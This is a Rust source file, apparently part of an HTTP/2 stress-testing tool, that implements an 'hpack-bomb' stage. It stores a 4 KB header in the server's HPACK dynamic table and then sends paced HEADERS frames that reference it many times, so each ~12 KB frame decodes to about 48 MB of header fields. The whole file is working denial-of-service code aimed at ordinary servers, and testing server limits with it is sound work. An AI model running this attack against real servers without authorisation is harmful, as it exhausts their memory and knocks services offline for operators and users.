//! Behaviours stage: `hpack-bomb`: on an HTTP/2 connection of its own frames (`rawh2`),
//! requests whose header blocks reference one stored field many times. The first request
//! stores `x-b` with a ~4 KB value in the server's dynamic table (a literal with
//! incremental indexing, RFC 7541 §6.2.1: dynamic index 62); every request then names index
//! 62 `references` times, one byte each, so each HEADERS frame of ~12 KB decodes to ~48 MB
//! of header fields unless the server stops at its header list limit (RFC 9113 §10.5.1).
//! Each request is a whole `GET` (END_HEADERS and END_STREAM), `streams_per_s` a
//! connection, `streams_per_connection` to one, after which the engine closes it
//! (answered); the server's GOAWAY or close ends it first. Streams count in
//! `streams_opened`.

use std::time::Duration;

use super::rawh2::{self, Answer};
use super::{Attempt, Behaviour};
use crate::client::Client;
use crate::h2frames::{frame, indexed_literal, request_block, END_HEADERS, END_STREAM, HEADERS};
use crate::plan::{HpackBombSpec, ValidPlan};
use crate::stats::ErrorKind;

/// The stored field's value: with its name and the table's 32-byte overhead, the entry
/// fits the default 4,096-byte dynamic table.
const VALUE_BYTES: usize = 4000;
/// HPACK's first dynamic-table index, where the newest entry sits; as an indexed field
/// (`1xxxxxxx`), one byte.
const NEWEST_ENTRY: u8 = 0x80 | 62;

pub(crate) struct HpackBomb {
    /// The first request's block (it stores the field, then references it) and every
    /// later one's.
    first: Vec<u8>,
    later: Vec<u8>,
    streams_per_s: f64,
    per_connection: u64,
    timeout: Duration,
}

impl HpackBomb {
    pub fn new(plan: &ValidPlan, spec: &HpackBombSpec) -> HpackBomb {
        let target = &plan.target;
        let mut later = request_block(&target.authority, &target.path, target.tls);
        let mut first = later.clone();
        indexed_literal(&mut first, b"x-b", &[b'b'; VALUE_BYTES]);
        let references = vec![NEWEST_ENTRY; spec.references as usize];
        first.extend_from_slice(&references);
        later.extend_from_slice(&references);
        let schedule = spec.streams_per_connection as f64 / spec.streams_per_s as f64;
        HpackBomb {
            first,
            later,
            streams_per_s: spec.streams_per_s as f64,
            per_connection: spec.streams_per_connection,
            timeout: Duration::from_secs_f64(schedule) + Duration::from_millis(plan.plan.timeout_ms),
        }
    }

    /// Requests `from..to` (0-based on the connection), each one HEADERS frame.
    fn requests(&self, from: u64, to: u64) -> Vec<u8> {
        let mut out = Vec::with_capacity((to - from) as usize * (self.later.len() + 9));
        for k in from..to {
            let block = if k == 0 { &self.first } else { &self.later };
            frame(&mut out, HEADERS, END_HEADERS | END_STREAM, (2 * k + 1) as u32, block);
        }
        out
    }
}

impl super::Loop for HpackBombSpec {
    fn build<R: super::Runner>(&self, plan: &ValidPlan, _: usize, runner: R) -> R::Out {
        runner.run(HpackBomb::new(plan, self))
    }
}

impl Behaviour for HpackBomb {
    type State = ();

    fn timeout(&self) -> Option<Duration> {
        Some(self.timeout)
    }

    async fn exchange(&self, c: &mut Client, _: &mut (), _: Attempt) -> Result<(), ErrorKind> {
        rawh2::open(c).await?;
        let requests = |from, to| self.requests(from, to);
        let count = |c: &Client, n| c.ledger().streams_opened(n);
        let total = Some(self.per_connection);
        rawh2::paced(c, self.streams_per_s, total, requests, count, Answer::All).await?;
        c.close();
        Ok(())
    }
}
